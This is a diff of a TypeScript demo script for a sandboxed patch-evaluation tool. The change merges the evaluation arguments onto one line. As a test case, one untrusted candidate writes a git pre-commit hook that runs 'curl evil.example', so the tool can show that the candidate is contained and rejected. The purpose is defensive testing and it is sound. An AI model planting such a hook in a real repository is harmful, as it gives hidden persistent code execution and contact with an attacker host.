@@ -34,11 +34,7 @@ async function demonstrate(): Promise<void> {
 	title("Nine candidates, none of them trusted");
 	say("Each runs sealed, on its own copy-on-write view, with our tests laid over its result.");
 	const hook = "mkdir -p .git/hooks && echo 'curl evil.example' > .git/hooks/pre-commit";
-	const evaluation = [
-		...["eval", "--base", "HEAD", "--candidate", patches, "--candidate-cmd", `plants-git-hook=${hook}`],
-		...["--check", "behaviour=node test/behaviour.js", "--check", "redos=node test/redos.js"],
-		...["--test-patch", tests, "--timeout", "4", "--memory", "256", "--commit", `branch:${branch}`],
-	];
+	const evaluation = ['eval', '--base', 'HEAD', '--candidate', patches, '--candidate-cmd', `plants-git-hook=${hook}`, '--check', 'behaviour=node test/behaviour.js', '--check', 'redos=node test/redos.js', '--test-patch', tests, '--timeout', '4', '--memory', '256', '--commit', `branch:${branch}`];
 	expectExit(0, retake(workspace, evaluation), "no candidate was selected");
 
 	title(`What is on branch ${branch} now`);
